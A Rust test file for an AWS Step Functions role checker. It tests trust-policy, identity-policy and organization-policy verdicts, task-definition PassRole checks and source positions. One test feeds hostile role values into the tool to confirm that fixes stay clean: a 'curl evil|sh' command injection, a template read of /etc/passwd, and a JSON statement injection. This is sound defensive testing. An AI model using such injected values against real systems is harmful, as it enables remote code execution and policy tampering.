//! Verdicts are proofs: who may assume which role, which roles a task definition hands over, and
//! what a fix may say. Rule numbers as in the facts sheet: T and P for trust, O, U, L.

use serde_json::{Value, json};
use sfn_role_check::report::{Check, CheckKind, Report, Verdict};
use sfn_role_check::{Workspace, analyze};

const EXECUTION: &str = "arn:aws:iam::111122223333:role/execution";
const MACHINE: &str = "arn:aws:states:eu-west-1:111122223333:stateMachine:machine";
/// In the account of the execution role.
const SAME: &str = "arn:aws:iam::111122223333:role/target";
/// In another account.
const ACROSS: &str = "arn:aws:iam::444455556666:role/target";
const G: Verdict = Verdict::Granted;
const M: Verdict = Verdict::Missing;
const D: Verdict = Verdict::Denied;
const U: Verdict = Verdict::Undecided;

fn document(kind: &str, text: &str) -> Value {
    json!({"name": kind, "kind": kind, "text": text})
}

fn policy(statements: &Value) -> String {
    json!({"Version": "2012-10-17", "Statement": statements}).to_string()
}

fn known() -> Value {
    json!({"executionRole": EXECUTION, "stateMachineArn": MACHINE})
}

fn report(documents: &[Value], settings: &Value) -> Report {
    let workspace = json!({"documents": documents, "settings": settings}).to_string();
    analyze(&Workspace::from_json(&workspace).unwrap())
}

fn machine(resource: &str, parameters: &Value, credentials: Option<&str>) -> Value {
    let mut state =
        json!({"Type": "Task", "Resource": resource, "Parameters": parameters, "End": true});
    if let Some(role) = credentials {
        state["Credentials"] = json!({"RoleArn": role});
    }
    document(
        "state-machine",
        &json!({"StartAt": "Run", "States": {"Run": state}}).to_string(),
    )
}

fn verdicts(report: &Report, kind: CheckKind) -> Vec<Verdict> {
    let of_kind = |check: &&Check| check.kind == kind;
    report
        .checks
        .iter()
        .filter(of_kind)
        .map(|check| check.verdict)
        .collect()
}

/// May the execution role assume the target, by its own policy and the target's trust?
fn assumed(
    target: &str,
    identity: Option<&Value>,
    trust: Option<&Value>,
    settings: &Value,
) -> Verdict {
    let mut documents = vec![machine(
        "arn:aws:states:::sqs:sendMessage",
        &json!({}),
        Some(target),
    )];
    documents.extend(identity.map(|statements| document("identity-policy", &policy(statements))));
    documents.extend(trust.map(|statements| {
        let mut document = document("trust-policy", &policy(statements));
        document["role"] = json!(target);
        document
    }));
    let found = verdicts(&report(&documents, settings), CheckKind::AssumeRole);
    assert_eq!(found.len(), 1);
    found[0]
}

fn trust(effect: &str, principal: &Value) -> Value {
    json!({"Effect": effect, "Principal": principal, "Action": "sts:AssumeRole"})
}

fn trusting(arn: &str) -> Value {
    trust("Allow", &json!({"AWS": arn}))
}

fn may_assume(target: &str) -> Value {
    json!({"Effect": "Allow", "Action": "sts:AssumeRole", "Resource": target})
}

#[test]
#[rustfmt::skip] // a case, a row
fn both_sides_decide_by_the_tables() {
    for (rule, target, has_identity, principal, expected) in [
        ("T1 account", SAME, true, json!({"AWS": "111122223333"}), G),
        ("T1 account's root", SAME, true, json!({"AWS": "arn:aws:iam::111122223333:root"}), G),
        ("T1 account, own side missing", SAME, false, json!({"AWS": "111122223333"}), M),
        ("T1 the role itself needs no own side", SAME, false, json!({"AWS": EXECUTION}), G),
        ("T1 one session", SAME, true, json!({"AWS": "arn:aws:sts::111122223333:assumed-role/execution/s"}), U),
        ("P8 a session of another role", SAME, true, json!({"AWS": "arn:aws:sts::111122223333:assumed-role/other/s"}), M),
        ("P6 everyone, own side missing", SAME, false, json!({"AWS": "*"}), U),
        ("T1 another role", SAME, true, json!({"AWS": "arn:aws:iam::111122223333:role/other"}), M),
        ("T1 a user of that name", SAME, true, json!({"AWS": "arn:aws:iam::111122223333:user/execution"}), M),
        ("T2 account", ACROSS, true, json!({"AWS": "111122223333"}), G),
        ("T2 role", ACROSS, true, json!({"AWS": EXECUTION}), G),
        ("T2 role, own side missing", ACROSS, false, json!({"AWS": EXECUTION}), M),
        ("T2 the target's own account", ACROSS, true, json!({"AWS": "444455556666"}), M),
        ("P3 any of several", ACROSS, true, json!({"Service": "glue.amazonaws.com", "AWS": ["444455556666", EXECUTION]}), G),
        ("P9 a deleted principal", ACROSS, true, json!({"AWS": "AROADBQP57FF2AEXAMPLE"}), M),
        ("P17 federated", ACROSS, true, json!({"Federated": "arn:aws:iam::111122223333:saml-provider/x"}), M),
        ("P18 a service is no role", ACROSS, true, json!({"Service": "states.amazonaws.com"}), M),
        ("R8 the path belongs to the ARN", ACROSS, true, json!({"AWS": "arn:aws:iam::111122223333:role/path/execution"}), M),
        ("U2 an unknown account", ACROSS, true, json!({"AWS": "arn:aws:iam::<ACCOUNT>:root"}), U),
        ("U2 an account by a word", ACROSS, true, json!({"AWS": "arn:aws:iam::ACCOUNT_ID:root"}), U),
        ("U2 an unknown principal", ACROSS, true, json!({"AWS": "${Role.Arn}"}), U),
        ("U10 a start that differs", ACROSS, true, json!({"AWS": "arn:aws:iam::111122223333:role/zz-${x}"}), M),
    ] {
        let identity = if has_identity { json!(may_assume(target)) } else { json!([]) };
        let statements = trust("Allow", &principal);
        assert_eq!(assumed(target, Some(&identity), Some(&statements), &known()), expected, "{rule}");
    }
    assert_eq!(assumed(ACROSS, Some(&may_assume(ACROSS)), None, &known()), U, "T3 no trust policy pasted");
    assert_eq!(assumed(ACROSS, Some(&json!([])), None, &known()), M, "T3 no own side");
    let best = json!([trusting("111122223333"), trusting(EXECUTION)]);
    assert_eq!(assumed(SAME, Some(&json!([])), Some(&best), &known()), G, "T4 the best statement counts");
    let service = trust("Allow", &json!({"Service": "states.amazonaws.com"}));
    assert_eq!(assumed(EXECUTION, Some(&may_assume(EXECUTION)), Some(&service), &known()), M, "T6 itself");
    let cn = "arn:aws-cn:iam::444455556666:role/target";
    assert_eq!(assumed(cn, Some(&may_assume(cn)), Some(&trusting(EXECUTION)), &known()), D, "T21 partitions");
}

#[test]
#[rustfmt::skip] // a case, a row
fn a_deny_in_the_trust_policy_is_final() {
    for (rule, principal, expected) in [
        ("T8 everyone", json!("*"), D),
        ("T8 account", json!({"AWS": "111122223333"}), D),
        ("T8 role", json!({"AWS": EXECUTION}), D),
        ("T8 some session", json!({"AWS": "arn:aws:sts::111122223333:assumed-role/execution/s"}), U),
        ("T8 another role", json!({"AWS": "arn:aws:iam::111122223333:role/other"}), G),
        ("P4 a pattern is refused", json!({"AWS": "arn:aws:iam::111122223333:role/*"}), U),
        ("U2 an account by a word", json!({"AWS": "arn:aws:iam::ACCOUNT_ID:root"}), U),
        ("U2 an unknown principal", json!({"AWS": "${Role.Arn}"}), U),
    ] {
        let statements = json!([trusting(EXECUTION), trust("Deny", &principal)]);
        assert_eq!(assumed(ACROSS, Some(&may_assume(ACROSS)), Some(&statements), &known()), expected, "{rule}");
    }
}

#[test]
#[rustfmt::skip] // a case, a row
fn conditions_of_trust_policies() {
    let by_role_only = json!({"executionRole": EXECUTION});
    for (rule, condition, settings, expected) in [
        ("T9 the machine", json!({"StringEquals": {"sts:ExternalId": MACHINE}}), known(), G),
        ("T9 another machine", json!({"StringEquals": {"sts:ExternalId": format!("{MACHINE}2")}}), known(), M),
        ("T9 machine unknown", json!({"StringEquals": {"sts:ExternalId": MACHINE}}), by_role_only, U),
        ("T9 must be absent", json!({"Null": {"sts:ExternalId": "true"}}), known(), M),
        ("T20 the role's ARN", json!({"ArnEquals": {"aws:PrincipalArn": EXECUTION}}), known(), G),
        ("K16 MFA", json!({"BoolIfExists": {"aws:MultiFactorAuthPresent": "true"}}), known(), U),
        ("O10 organization", json!({"StringEquals": {"aws:PrincipalOrgID": "o-1"}}), known(), U),
    ] {
        let mut statement = trusting("111122223333");
        statement["Condition"] = condition;
        assert_eq!(assumed(ACROSS, Some(&may_assume(ACROSS)), Some(&statement), &settings), expected, "{rule}");
    }
    for (rule, action, expected) in [
        ("T5 another action", "sts:AssumeRoleWithSAML", M),
        ("T5 every action", "sts:*", G),
        ("A9 tags alone", "sts:TagSession", M),
    ] {
        let statement = json!({"Effect": "Allow", "Principal": {"AWS": EXECUTION}, "Action": action});
        assert_eq!(assumed(ACROSS, Some(&may_assume(ACROSS)), Some(&statement), &known()), expected, "{rule}");
    }
    let refused = [
        ("G15 NotPrincipal", json!({"Effect": "Allow", "NotPrincipal": {"AWS": "444455556666"}, "Action": "sts:AssumeRole"})),
        ("G16 Resource", json!({"Effect": "Allow", "Principal": {"AWS": EXECUTION}, "Action": "sts:AssumeRole", "Resource": "*"})),
        ("G27 unknown kind of principal", trust("Allow", &json!({"AWS": EXECUTION, "Aws": "*"}))),
    ];
    for (rule, statement) in refused {
        assert_eq!(assumed(ACROSS, Some(&may_assume(ACROSS)), Some(&statement), &known()), U, "{rule}");
    }
}

#[test]
#[rustfmt::skip] // a case, a row
fn what_is_not_known_of_the_caller_stays_open() {
    for (rule, settings, principal, expected) in [
        ("U21 role unknown", json!({}), json!({"AWS": EXECUTION}), U),
        ("U22 account unknown", json!({}), json!({"AWS": "111122223333"}), U),
        ("P2 account known", json!({"account": "111122223333"}), json!({"AWS": "111122223333"}), G),
        ("U21 account known, role unknown", json!({"account": "111122223333"}), json!({"AWS": EXECUTION}), U),
        ("U21 a logical id", json!({"executionRole": "Role"}), json!({"AWS": EXECUTION}), U),
    ] {
        let statement = trust("Allow", &principal);
        assert_eq!(assumed(ACROSS, Some(&may_assume(ACROSS)), Some(&statement), &settings), expected, "{rule}");
    }
}

#[test]
#[rustfmt::skip] // a case, a row
fn organization_policies_of_the_right_account_count() {
    let all = json!({"Effect": "Deny", "Action": "*", "Resource": "*"});
    let everyone = json!({"Effect": "Deny", "Principal": "*", "Action": "sts:*", "Resource": "*"});
    for (rule, kind, statement, account, expected) in [
        ("O6 SCP of the caller", "scp", &all, "111122223333", D),
        ("O6 SCP of the target", "scp", &all, "444455556666", G),
        ("O11 RCP of the caller", "rcp", &everyone, "111122223333", G),
        ("O11 RCP of the target", "rcp", &everyone, "444455556666", D),
    ] {
        let mut trusted = document("trust-policy", &policy(&trusting(EXECUTION)));
        trusted["role"] = json!(ACROSS);
        let mut organization = document(kind, &policy(statement));
        organization["account"] = json!(account);
        let documents = [
            machine("arn:aws:states:::sqs:sendMessage", &json!({}), Some(ACROSS)),
            document("identity-policy", &policy(&may_assume(ACROSS))),
            trusted,
            organization,
        ];
        // An SCP has to allow too: of one account only.
        let found = verdicts(&report(&documents, &known()), CheckKind::AssumeRole);
        assert_eq!(found, [expected], "{rule}");
    }
}

#[test]
#[rustfmt::skip] // a case, a row
fn task_definitions_prove_only_what_they_are() {
    let own = "arn:aws:ecs:eu-west-1:111122223333:task-definition/app:3";
    let role = "arn:aws:iam::111122223333:role/task";
    let described = json!({"taskDefinition": {"taskDefinitionArn": own, "containerDefinitions": [], "taskRoleArn": role}}).to_string();
    let broken = described.get(..described.len() - 1).unwrap_or_default().to_owned();
    let elsewhere = described.replace("role/task", "role/another");
    for (rule, reference, pasted, expected) in [
        ("the one", own, vec![&described], vec![G]),
        ("another revision", "app:4", vec![&described], vec![U]),
        ("another Region", "arn:aws:ecs:us-east-1:111122223333:task-definition/app:3", vec![&described], vec![U]),
        ("U1 not known", "${TaskDefinition}", vec![&described], vec![U, U]),
        ("U7 repaired", own, vec![&broken], vec![U, U]),
        ("a role that is not allowed", own, vec![&elsewhere], vec![M]),
        ("nothing pasted", own, vec![], vec![U]),
    ] {
        let mut documents = vec![
            machine("arn:aws:states:::ecs:runTask", &json!({"TaskDefinition": reference}), None),
            document("identity-policy", &policy(&json!({"Effect": "Allow", "Action": "iam:PassRole", "Resource": role}))),
        ];
        documents.extend(pasted.into_iter().map(|text| document("task-definition", text)));
        assert_eq!(verdicts(&report(&documents, &known()), CheckKind::PassRole), expected, "{rule}");
    }
    let overridden = json!({"TaskDefinition": own, "Overrides": {"TaskRoleArn": "arn:aws:iam::111122223333:role/other"}});
    let documents = [
        machine("arn:aws:states:::ecs:runTask", &overridden, None),
        document("identity-policy", &policy(&json!({"Effect": "Allow", "Action": "iam:PassRole", "Resource": role}))),
        document("task-definition", &described),
    ];
    assert_eq!(verdicts(&report(&documents, &known()), CheckKind::PassRole), [M], "Overrides replace");
}

#[test]
#[rustfmt::skip] // a case, a row
fn no_wildcard_enters_a_fix() {
    for role in [
        "*",
        "arn:aws:iam::111122223333:role/*",
        "arn:aws:iam::*:role/x",
        "arn:aws:iam::111122223333:role/?",
        "arn:aws:iam::111122223333:role/{{a*}}",
        "arn:aws:iam::111122223333:role/<*>",
        "arn:aws:iam::111122223333:role/x\"},{\"Effect\":\"Allow",
        "x;curl evil|sh",
        "${file(\"/etc/passwd\")}",
    ] {
        for (state, kind) in [
            (machine("arn:aws:states:::emr-serverless:startJobRun", &json!({"ExecutionRoleArn": role}), None), "passed"),
            (machine("arn:aws:states:::sqs:sendMessage", &json!({}), Some(role)), "assumed"),
        ] {
            let report = report(&[state, document("identity-policy", &policy(&json!([])))], &known());
            for fix in &report.fixes {
                let resource = serde_json::to_value(&fix.statement).unwrap()["Resource"].to_string();
                assert!(!resource.contains(['*', '?', '\\', ';', '{', '(']), "{kind} {role}: {resource}");
                assert!(!fix.placeholders.is_empty(), "{kind} {role}");
            }
        }
    }
}

#[test]
#[rustfmt::skip] // a case, a row
fn places_count_utf16_units_and_lines_of_any_kind() {
    let text = "{\"Comment\": \"\u{1d11e}\u{e4}\",\r\n\"StartAt\": \"\u{1f600}\", \"States\": {\r\"\u{1f600}\": {\"Type\": \"Task\", \
                \"Resource\": \"arn:aws:states:::emr-serverless:startJobRun\", \"Parameters\": {\"ExecutionRoleArn\": \"arn:aws:iam::111122223333:role/x\"}, \"End\": true}}}";
    let documents = [document("state-machine", text), document("identity-policy", &policy(&json!([])))];
    let report = report(&documents, &known());
    let at = &report.checks[0].at[0];
    let units: Vec<u16> = text.encode_utf16().collect();
    let marked = String::from_utf16(&units[at.start as usize..at.end as usize]).unwrap();
    assert_eq!(marked, "\"arn:aws:iam::111122223333:role/x\"");
    assert_eq!(at.line, 3);
    assert_eq!(at.pointer, "/States/\u{1f600}/Parameters/ExecutionRoleArn");
}
